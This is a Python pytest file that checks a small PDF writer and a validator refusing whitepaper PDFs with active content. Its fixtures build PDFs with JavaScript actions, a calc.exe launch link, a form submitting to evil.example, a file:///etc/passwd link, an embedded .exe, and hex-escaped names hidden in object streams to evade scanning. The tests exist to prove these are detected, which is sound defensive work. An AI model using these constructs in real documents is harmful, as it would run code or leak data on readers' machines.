"""The tiny PDF writer (placeholder and sample whitepapers) and the check whitepaper PDFs pass."""

from __future__ import annotations

import io
from collections.abc import Callable
from pathlib import Path

import pdfbuild
import pypdf
import pytest
from conftest import CONTENT
from pypdf.actions import JavaScript as JavaScriptAction
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from partnermodel.pdf import pdf_data_problems, pdf_problems
from partnermodel.pdfwriter import blocks_from_text, write_pdf

TEXT = "## Heading\nA paragraph about Bølgen and €.\n\n- one\n- two\n\n" + "Long text. " * 600


def test_written_pdf_opens_in_a_strict_reader_with_its_text_and_pages() -> None:
    data = write_pdf("A (title) \\ with specials", blocks_from_text(TEXT), author="Copernica")
    reader = pypdf.PdfReader(io.BytesIO(data), strict=True)
    assert len(reader.pages) >= 2  # long text flows onto more pages
    first = reader.pages[0].extract_text()
    assert "A (title) \\ with specials" in first and "Bølgen and €" in first
    assert reader.metadata.title == "A (title) \\ with specials"
    assert reader.metadata.author == "Copernica"
    again = write_pdf("A (title) \\ with specials", blocks_from_text(TEXT), author="Copernica")
    assert data == again  # deterministic: no dates, no random ids


def test_the_sample_whitepapers_are_real_pdfs(tmp_path: Path) -> None:
    pdfs = sorted((CONTENT / "library" / "whitepapers").glob("*.pdf"))
    assert pdfs
    for path in pdfs:
        assert pdf_problems(path) == []
        reader = pypdf.PdfReader(path, strict=True)
        assert reader.pages and reader.pages[0].extract_text().strip()
        assert path.stat().st_size < 50_000


def _writer_pdf(change: Callable[[pypdf.PdfWriter], None]) -> bytes:
    """A one-page PDF from pypdf's own writer, changed by `change` before it is written."""
    writer = pypdf.PdfWriter()
    writer.add_blank_page(200, 200)
    change(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _action(**entries: str) -> DictionaryObject:
    """An action dictionary: values starting with / are names, the others strings."""
    action = DictionaryObject()
    for key, value in entries.items():
        is_name = value.startswith("/")
        action[NameObject(f"/{key}")] = NameObject(value) if is_name else TextStringObject(value)
    return action


def _set(path: str, value: object) -> Callable[[pypdf.PdfWriter], None]:
    """Set a catalog or first-page entry ('root/OpenAction', 'page/AA')."""

    def change(writer: pypdf.PdfWriter) -> None:
        where, key = path.split("/")
        target = writer.root_object if where == "root" else writer.pages[0]
        target[NameObject(f"/{key}")] = value

    return change


def _annotation(subtype: str, **entries: object) -> Callable[[pypdf.PdfWriter], None]:
    def change(writer: pypdf.PdfWriter) -> None:
        annotation = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject(subtype),
                NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (0, 0, 50, 50)]),
            }
        )
        for key, value in entries.items():
            annotation[NameObject(f"/{key}")] = value
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])

    return change


def _outline_with(action: DictionaryObject) -> Callable[[pypdf.PdfWriter], None]:
    def change(writer: pypdf.PdfWriter) -> None:
        item = writer.add_outline_item(title="Chapter", page_number=0)
        item.get_object()[NameObject("/A")] = action

    return change


JS = _action(S="/JavaScript", JS="app.alert(1)")


def _link(**action: str) -> Callable[[pypdf.PdfWriter], None]:
    return _annotation("/Link", A=_action(**action))


def _names(**entries: object) -> DictionaryObject:
    return DictionaryObject({NameObject(f"/{key}"): value for key, value in entries.items()})


XFA = _names(Fields=ArrayObject(), XFA=TextStringObject("<xdp/>"))
WRITTEN = {
    "document JavaScript": (
        lambda w: w.add_open_action(JavaScriptAction("app.alert(1)")),
        "JavaScript",
    ),
    "JavaScript OpenAction": (_set("root/OpenAction", JS), "JavaScript"),
    "document AA": (_set("root/AA", _names(WC=JS)), "actions that run when"),
    "page AA": (_set("page/AA", _names(O=JS)), "actions that run when"),
    "launch link": (_link(S="/Launch", F="calc.exe"), "an action that starts a program"),
    "widget SubmitForm": (
        _annotation("/Widget", A=_action(S="/SubmitForm", F="https://evil.example/")),
        "SubmitForm",
    ),
    "ImportData": (_set("root/OpenAction", _action(S="/ImportData", F="a.fdf")), "ImportData"),
    "GoToR": (_link(S="/GoToR", F="other.pdf"), "opens another PDF file (GoToR)"),
    "GoToE": (_link(S="/GoToE"), "opens an embedded PDF file (GoToE)"),
    "javascript: link": (
        _link(S="/URI", URI="javascript:app.alert(1)"),
        "'javascript:app.alert(1)'",
    ),
    "file: link": (_link(S="/URI", URI="file:///etc/passwd"), "a link to 'file:///etc/passwd'"),
    "rich media": (_annotation("/RichMedia"), "embedded media"),
    "screen with rendition": (_annotation("/Screen", A=_action(S="/Rendition")), "embedded media"),
    "file attachment": (_annotation("/FileAttachment"), "an attached file"),
    "embedded file": (lambda w: w.add_attachment("invoice.exe", b"MZ"), "embedded files"),
    "XFA form": (_set("root/AcroForm", XFA), "an XFA form"),
    "outline action": (_outline_with(JS), "JavaScript"),
}


@pytest.mark.parametrize("name", WRITTEN)
def test_pdfs_with_active_content_are_refused(name: str) -> None:
    change, message = WRITTEN[name]
    problems = pdf_data_problems(_writer_pdf(change))
    assert any(message in p for p in problems), problems
    assert not any("cannot be read" in p for p in problems), problems


def test_links_to_web_pages_and_mail_are_fine() -> None:
    for address in ("https://www.copernica.com/en", "http://example.com/", "mailto:a@b.example"):
        assert pdf_data_problems(_writer_pdf(_link(S="/URI", URI=address))) == [], address
    goto = _set("root/OpenAction", ArrayObject([NumberObject(0), NameObject("/Fit")]))
    assert pdf_data_problems(_writer_pdf(goto)) == []  # "open at the first page, fitted"


SCRIPT_ACTION = b"/OpenAction << /S /Java#53cript /J#53 (app.alert\\(1\\)) >>"


def test_escaped_names_and_object_streams_do_not_hide_script() -> None:
    escaped = pdfbuild.classic_pdf([pdfbuild.catalog(SCRIPT_ACTION), pdfbuild.PAGES, pdfbuild.PAGE])
    hidden = pdfbuild.object_stream_pdf(
        [pdfbuild.catalog(SCRIPT_ACTION), pdfbuild.PAGES, pdfbuild.PAGE], compressed={1, 2, 3}
    )
    embedded = pdfbuild.object_stream_pdf(
        [
            pdfbuild.catalog(b"/Names << /Embedded#46iles 4 0 R >>"),
            pdfbuild.PAGES,
            pdfbuild.PAGE,
            b"<< /Names [(x.exe) << /Type /Filespec /F (x.exe) >>] >>",
        ],
        compressed={1, 4},
    )
    assert b"JavaScript" not in escaped and b"JS" not in escaped
    assert b"Java" not in hidden and b"Embedded" not in embedded  # only in the compressed stream
    for data in (escaped, hidden):
        pypdf.PdfReader(io.BytesIO(data), strict=True)  # a well-formed file, not a broken one
        assert pdf_data_problems(data) == ["the PDF contains JavaScript; export it without"]
    assert pdf_data_problems(embedded) == ["the PDF contains embedded files; export it without"]
    clean = pdfbuild.object_stream_pdf(
        [pdfbuild.catalog(b""), pdfbuild.PAGES, pdfbuild.PAGE], compressed={1, 2}
    )
    assert pdf_data_problems(clean) == []


def test_encrypted_and_broken_pdfs_are_refused() -> None:
    def encrypt(password: str) -> Callable[[pypdf.PdfWriter], None]:
        return lambda writer: writer.encrypt(password, "owner")

    for password in ("secret", ""):
        assert pdf_data_problems(_writer_pdf(encrypt(password))) == [
            "the PDF is encrypted or has a password; export it without protection"
        ]
    good = write_pdf("x", blocks_from_text("text"))
    shifted = good.replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /Launch >>")
    problems = pdf_data_problems(shifted)  # offsets no longer match: readers repair it
    assert problems[0].startswith("the PDF cannot be read reliably (")
    assert problems[1:] == ["the PDF contains an action that starts a program; export it without"]
    garbage = b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"\n%%EOF\n"
    assert pdf_data_problems(garbage)[0].startswith("the PDF cannot be read reliably")
    deep = pdfbuild.classic_pdf([pdfbuild.catalog(b"/X " + b"[" * 5000 + b"]" * 5000)])
    assert pdf_data_problems(deep)[0].startswith("the PDF cannot be read reliably")
    assert pdf_data_problems(b"<html></html>") == [
        "not a PDF file (it does not start with %PDF-); export the document as PDF"
    ]
    assert pdf_data_problems(good[:-20]) == [
        "the PDF is incomplete (it does not end with %%EOF); export it again"
    ]


def test_the_check_reads_the_file_beside_the_item(tmp_path: Path) -> None:
    path = tmp_path / "x.pdf"
    path.write_bytes(_writer_pdf(WRITTEN["document JavaScript"][0]))
    assert pdf_problems(path) == ["the PDF contains JavaScript; export it without"]
